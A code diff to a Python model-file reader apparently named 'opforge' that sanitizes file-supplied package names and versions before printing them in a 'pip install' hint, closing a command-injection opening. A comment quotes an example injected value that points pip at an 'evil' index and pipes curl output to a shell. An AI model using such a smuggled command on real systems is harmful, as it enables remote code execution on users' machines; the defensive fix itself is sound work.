@@ -59,6 +59,7 @@ from opforge.limits import Limits, current
 from opforge.model_files import open_regular
 from opforge.op import Op, OpAttrs
 from opforge.opset.constant import Constant, ConstantAttrs
+from opforge.untrusted_text import package_name, version
 
 if TYPE_CHECKING:
     from opforge.plugins.manager import PluginSystem
@@ -586,19 +587,24 @@ class _Reader:
         raise UnsupportedOpError(f"{where}: operation '{t}' of opset '{v}': {self._missing_opset_hint(v)}")
 
     def _missing_opset_hint(self, opset: str) -> str:
+        # Everything below comes from the file: it is shown only when it is a plain package name
+        # (PEP 508) or version, so a crafted IR cannot choose the command a user is told to run
+        # ("pkg --index-url http://evil/simple; curl ... | sh").
         rec: Any = self.model_rt.get(RT_INFO_KEY)
         rec = rec.get(CUSTOM_OPSETS_KEY) if isinstance(rec, Mapping) else None
         rec = rec.get(opset) if isinstance(rec, Mapping) else None
-        if isinstance(rec, Mapping) and rec.get("distribution"):
-            dist = rec["distribution"]
-            ver = f" {rec['version']}" if rec.get("version") else ""
-            plugin = f" (plugin '{rec['plugin']}')" if rec.get("plugin") else ""
+        dist = package_name(rec.get("distribution")) if isinstance(rec, Mapping) else None
+        ver_text = version(rec.get("version")) if isinstance(rec, Mapping) else None
+        plugin = package_name(rec.get("plugin")) if isinstance(rec, Mapping) else None
+        if dist:
+            ver = f" {ver_text}" if ver_text else ""
+            named = f" (plugin '{plugin}')" if plugin else ""
             return (f"no installed plugin provides opset '{opset}'. The file was written with it "
-                    f"provided by distribution '{dist}'{ver}{plugin}: `pip install {dist}` and read "
+                    f"provided by distribution '{dist}'{ver}{named}: `pip install {dist}` and read "
                     "the model again.")
-        if isinstance(rec, Mapping) and rec.get("plugin"):
+        if plugin:
             return (f"no installed plugin provides opset '{opset}'. The file was written with it "
-                    f"provided by plugin '{rec['plugin']}' (no installable distribution recorded); "
+                    f"provided by plugin '{plugin}' (no installable distribution recorded); "
                     "load that plugin (Core.add_extension) and read the model again.")
         return (f"no installed plugin provides opset '{opset}', and the file does not record which "
                 "package did. Install the opforge plugin (or OpenVINO extension port) that defines "
